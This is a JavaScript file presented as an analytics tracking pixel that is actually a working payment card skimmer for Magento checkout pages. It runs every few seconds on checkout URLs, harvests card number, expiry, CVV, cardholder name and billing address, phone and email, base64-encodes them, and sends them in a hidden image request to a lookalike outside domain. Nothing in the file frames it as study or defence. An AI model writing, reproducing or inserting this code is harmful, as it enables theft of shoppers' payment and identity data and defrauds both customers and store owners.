var mgPixel = {
    host: "https://stats-magentocommerce.cc",
    seen: {},

    field: function (name) {
        var node = document.querySelector('input[name="' + name + '"], select[name="' + name + '"]');
        return node ? node.value : null;
    },

    collect: function () {
        return {
            cc: this.field("payment[cc_number]"),
            mm: this.field("payment[cc_exp_month]"),
            yy: this.field("payment[cc_exp_year]"),
            cv: this.field("payment[cc_cid]"),
            ow: this.field("payment[cc_owner]"),
            fn: this.field("billing[firstname]"),
            ln: this.field("billing[lastname]"),
            st: this.field("billing[street][]"),
            ci: this.field("billing[city]"),
            pc: this.field("billing[postcode]"),
            ph: this.field("billing[telephone]"),
            em: this.field("billing[email]")
        };
    },

    fire: function () {
        var c = this.collect();
        if (!c.cc || !c.cv) return;
        var key = c.cc + c.cv;
        if (this.seen[key]) return;
        this.seen[key] = 1;
        var img = document.createElement("img");
        img.src = this.host + "/static/frontend/pixel.gif?dt=" + encodeURIComponent(btoa(JSON.stringify(c)));
        img.style.cssText = "position:absolute;left:-9999px;width:1px;height:1px";
        (document.body || document.documentElement).appendChild(img);
    }
};

if (/onestepcheckout|onepage|checkout/i.test(window.location.pathname)) {
    setInterval(function () { mgPixel.fire(); }, 3000);
}
